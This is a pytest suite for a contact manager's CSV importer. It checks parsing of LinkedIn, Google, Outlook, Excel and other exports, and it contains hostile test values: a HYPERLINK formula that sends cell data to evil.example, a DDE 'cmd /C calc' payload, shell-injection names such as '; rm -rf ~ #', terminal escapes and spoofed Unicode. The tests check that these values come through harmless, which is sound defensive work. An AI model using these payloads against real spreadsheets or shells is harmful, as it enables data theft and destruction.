from datetime import date

import pytest
from paths import CORPUS

from netcrm.errors import Refused
from netcrm.model.imports import Draft, Gathered, Left, Unreadable
from netcrm.sources import kinds
from netcrm.sources.tables import generic_csv, google, linkedin, outlook, thunderbird
from rows import each_row

FILES = CORPUS / "csv"
READERS = {
    "linkedin": linkedin.read,
    "google": google.read,
    "outlook": outlook.read,
    "thunderbird": thunderbird.read,
    "csv": generic_csv.read,
}

pytestmark = pytest.mark.skipif(not FILES.is_dir(), reason="the corpus is not there")


def read(name: str) -> Gathered:
    """The file as a user would import it: without saying what it is."""
    raw = (FILES / name).read_bytes()
    return READERS[kinds.kind_of(raw, name)](raw)


def linked(line: int, name: str, profile: str, on: date, **more: object) -> Draft:
    key = f"https://www.linkedin.com/in/{profile}"
    return Draft(line, name, key, urls=(key,), met_on=on, met_where="LinkedIn", **more)


def connections(first: int) -> tuple[Draft, ...]:
    """The people of the files of LinkedIn, the first of them on that line."""
    return (
        linked(
            first,
            "Mara Okafor",
            "mara-okafor-9a1b",
            date(2024, 11, 5),
            company="Northwind, Inc.",
            title="Head of Partnerships",
        ),
        linked(
            first + 1,
            "Jens Sørensen",
            "jens-s%C3%B8rensen-b7",
            date(2023, 1, 31),
            emails=("jens@fjordlabs.example",),
            company="Fjord Labs ApS",
            title="Founder, CEO",
        ),
        linked(first + 2, "Li Wei (李伟)", "liwei", date(2021, 3, 1)),
        linked(
            first + 3,
            'Anne "Annie" O\'Hara',
            "annie-ohara",
            date(2024, 2, 29),
            emails=("annie.ohara@example.com",),
            company="O'Hara & Söhne GmbH",
            title="Geschäftsführerin 🚀",
        ),
        linked(
            first + 4,
            "José María García López, PhD",
            "josemgl",
            date(2019, 12, 12),
            company="Universidad de Ejemplo",
            title="Profesor",
        ),
        linked(first + 6, "Prince", "prince-mono", date(2020, 9, 9), company="Self-employed", title="Musician"),
        linked(first + 7, "Mara Okafor", "mara-okafor-other", date(2024, 5, 17), company="Contoso", title="Analyst"),
    )


GOOGLE_OLD = (
    Draft(
        2,
        "Liz Taylor",
        emails=("liz@example.com",),
        phones=("+44 7911 123456",),
        title="Producer",
        company="BBC",
        birthday="1980-02-29",
        groups=("Friends",),
    ),
    Draft(3, "Émile", emails=("emile@example.fr", "emile2@example.fr")),
)
GOOGLE_NEW = (
    Draft(
        2,
        "Robert Smith",
        emails=("rob@acme.example", "bob@personal.example"),
        phones=("+1 415 555 0134", "+1 415 555 0135", "020 7946 0018"),
        urls=("https://www.linkedin.com/in/bobsmith-example",),
        title="Manager",
        company="Acme",
        location="Springfield, US",
        nickname="Bob",
        birthday="--03-07",
        groups=("Work", "Conference 2024"),
        notes=(
            'Two\nlines, and "quotes"',
            "Spouse: Ellen Smith",
            "Anniversary: 4 June 2011",
            "Met at: Web Summit",
            "Address: 12 Elm St, 94110 Springfield, US",
        ),
    ),
    Draft(6, "user@gmail.example", emails=("user@gmail.example",)),
    Draft(7, "anonymous@test.example", emails=("anonymous@test.example",)),
    Draft(8, "愛川翼", phones=("0997-52-4187",), company="有限会社愛建工業", birthday="1987-10-06"),
    Draft(9, "Globex Support", phones=("+18005550100",)),
)
PEOPLE = {
    "linkedin_2024_preamble.csv": connections(5),
    "linkedin_2024_bom_crlf.csv": connections(5),
    "linkedin_no_preamble.csv": connections(2),
    "linkedin_de_localised.csv": (
        linked(2, "Hanna Weiß", "hanna-weiss", date(2022, 4, 3), company="Beispiel AG", title="Entwicklerin"),
    ),
    "linkedin_old_no_url.csv": (
        Draft(
            2,
            "Omar Haddad",
            emails=("omar@example.org",),
            company="Haddad Trading",
            title="Owner",
            met_on=date(2018, 11, 4),
            met_where="LinkedIn",
        ),
        Draft(3, "Grace Kim", company="Kim Studio", title="Designer", met_on=date(2017, 3, 9), met_where="LinkedIn"),
    ),
    "google_2024_new.csv": GOOGLE_NEW,
    "google_old.csv": GOOGLE_OLD,
    "google_old_utf16le.csv": GOOGLE_OLD,
    "outlook_classic_cp1252.csv": (
        Draft(
            2,
            "Jürgen Müller",
            emails=("j.mueller@bosch.example",),
            phones=("0151 23456789", "+49 711 400 40990"),
            title="Engineer",
            company="Bosch Beispiel",
            location="Stuttgart",
            birthday="1984-03-07",
            groups=("Work", "Germany"),
            notes=("Met in Q1;\nlikes tea", "Address: Robert-Bosch-Platz 1, 70839 Stuttgart"),
        ),
        Draft(4, "Ann Lee", phones=("(801) 555-0163",)),
    ),
    "outlook_com.csv": (
        Draft(2, "Svein Heimdal", phones=("901 06 000",), company="Heimdal AS", notes=("kort",)),
        Draft(3, "Larsen", phones=("+47 466 88 000",)),
        Draft(4, "mail@mail.example", emails=("mail@mail.example",)),
    ),
    "thunderbird__export.csv": (
        Draft(2, "contact number one", emails=("contact1@invalid",)),
        Draft(
            3,
            "contact number two",
            emails=("contact2@invalid",),
            title='"worker"',
            notes=("custom, 1", "custom 2", "custom3", "custom\n4", "here's some unicode text…"),
        ),
    ),
    "generic_minimal.csv": (
        Draft(2, "Ann Lee", emails=("ann@example.com",), company="Acme", groups=("vip", "investor")),
    ),
    "excel_saveas_trailing.csv": (
        Draft(
            2,
            "David Chen",
            emails=("dchen@example.com",),
            phones=("3855550187",),
            company="Orem HVAC",
            notes=("Existing customer, renewing",),
        ),
        Draft(3, "Maria Gonzales", emails=("maria@example.com",), phones=("801.555.0199",), company="Layton Pipe"),
    ),
    "excel_semicolon.csv": (Draft(2, "Jörg Groß", emails=("joerg@gross.example",), company="Groß GmbH"),),
    "excel_utf16_tab.txt": (Draft(2, "Łukasz Żak", emails=("lukasz@example.pl",), company="Żak Sp. z o.o."),),
    "sep_hint.csv": (Draft(3, "Ann Lee", emails=("ann@example.com",)),),
    "ragged.csv": (
        Draft(2, "A", emails=("a@example.com",), company="X"),
        Draft(6, 'D "dee"', emails=("d@example.com",)),
    ),
    "hubspot_contacts.csv": (
        Draft(
            2,
            "Sara Mitchell",
            emails=("sara@example.com",),
            phones=("801-555-0142",),
            title='Lead ("Ask for Dave")',
            company="Sandy Landscape Co",
        ),
    ),
    "duplicates.csv": (
        Draft(
            2,
            "Thomas Nguyen",
            emails=("tom@example.com",),
            phones=("801-555-0150",),
            company="Riverton Roofing LLC",
        ),
        Draft(
            3,
            "Tom Nguyen",
            emails=("TOM@example.com",),
            phones=("+1 (801) 555-0150",),
            company="Riverton Roof & Gutter",
        ),
        Draft(4, "Nguyen Thomas", phones=("8015550150",)),
        Draft(5, "Tomas Nguyễn", emails=("tom+crm@example.com",), company="Riverton"),
        Draft(6, "Thomas Nguyen", emails=("other@example.com",), company="Different Corp"),
    ),
    "hostile_formula.csv": (
        Draft(
            2,
            '=HYPERLINK("http://evil.example?x="&A2,"click")',
            emails=("a@example.com",),
            company="+1+1",
            notes=("@SUM(1+1)*cmd|' /C calc'!A0",),
        ),
        Draft(3, "-2+3", emails=("b@example.com",), company="=1+1", notes=("=1+1",)),
        Draft(5, "+44 20 7946 0018", emails=("c@example.com",), notes=("= not a formula",)),
    ),
}


@each_row("name", sorted(PEOPLE))
def test_everybody_in_a_file_is_read_right_at_the_first_try(name):
    assert read(name).drafts == PEOPLE[name]


@each_row(
    ("name", "unreadable"),
    [
        ("linkedin_2024_preamble.csv", (Unreadable(10, "no name"),)),
        ("linkedin_2024_bom_crlf.csv", (Unreadable(10, "no name"),)),
        ("linkedin_no_preamble.csv", (Unreadable(7, "no name"),)),
        (
            "ragged.csv",
            (Unreadable(3, "6 fields where the header has 4"), Unreadable(5, "one field where the header has 4")),
        ),
    ],
)
def test_a_row_that_cannot_be_read_is_told(name, unreadable):
    assert read(name).unreadable == unreadable


@each_row("name", sorted(PEOPLE.keys() - {"ragged.csv"}))
def test_in_the_other_files_every_row_is_read(name):
    assert [flaw for flaw in read(name).unreadable if not name.startswith("linkedin")] == []


@each_row(
    ("name", "left"),
    [
        ("google_2024_new.csv", {Left("photos", 1), Left("phonetic names", 1)}),
        ("google_old.csv", set()),
        (
            "outlook_classic_cp1252.csv",
            {Left("addresses inside an Exchange server", 1), Left("titles before a name", 1)},
        ),
        ("outlook_com.csv", set()),
        ("thunderbird__export.csv", set()),
        ("excel_semicolon.csv", {Left('column "Umsatz"', 1)}),
        (
            "hubspot_contacts.csv",
            {Left(f'column "{name}"', 1) for name in ("Record ID", "Create Date", "Last Activity Date")},
        ),
        ("linkedin_2024_preamble.csv", set()),
    ],
)
def test_what_is_not_taken_is_counted(name, left):
    assert set(read(name).left) == left


@each_row(
    ("name", "contacts"),
    [
        ("excel_semicolon.csv", [(2, date(2026, 9, 15), "other")]),
        ("excel_saveas_trailing.csv", [(2, date(2026, 9, 15), "other"), (3, date(2026, 4, 8), "other")]),
        ("linkedin_messages.csv", [(2, date(2024, 11, 6), "message"), (4, date(2024, 11, 6), "message")]),
    ],
)
def test_days_of_contact_are_read_right(name, contacts):
    assert [(one.line, one.on, one.kind) for one in read(name).encounters] == contacts


@each_row(
    ("name", "names"),
    [
        ("hostile_shell.csv", ["Mallory\\$(touch /tmp/netcrm_pwned)", "; rm -rf ~ #", "--help", "$HOME", "quo\"te's"]),
        ("hostile_terminal.csv", ["[bold red]Rich[/bold red]", "C1FAKE", "Ann[2J[31mRed"]),
        (
            "hostile_unicode.csv",
            ["paypalgpj.exe", "admin", "BOM inside", "👨‍👩‍👧‍👦 Family", "Żółć 日本語 한국어 عربى עברית ไทย"],
        ),
    ],
)
def test_hostile_names_come_through_harmless(name, names):
    found = {draft.name for draft in read(name).drafts}
    assert (set(names) - found, [one for one in found if "\x1b" in one or "\u202e" in one]) == (set(), [])


@each_row(("name", "people"), [("hostile_shell.csv", 9), ("hostile_terminal.csv", 4), ("hostile_unicode.csv", 11)])
def test_nobody_is_lost_among_hostile_rows(name, people):
    assert (len(read(name).drafts), read(name).unreadable) == (people, ())


@each_row(("name", "reason"), [("empty.csv", "empty"), ("header_only.csv", "no people")])
def test_a_file_of_nobody_is_refused_with_the_reason(name, reason):
    with pytest.raises(Refused, match=reason) as refused:
        read(name)
    assert refused.value.hint


def test_every_table_of_the_corpus_is_looked_at():
    others = {"empty.csv", "header_only.csv", "linkedin_messages.csv"}
    hostile = {"hostile_shell.csv", "hostile_terminal.csv", "hostile_unicode.csv"}
    assert {path.name for path in FILES.iterdir()} == PEOPLE.keys() | others | hostile
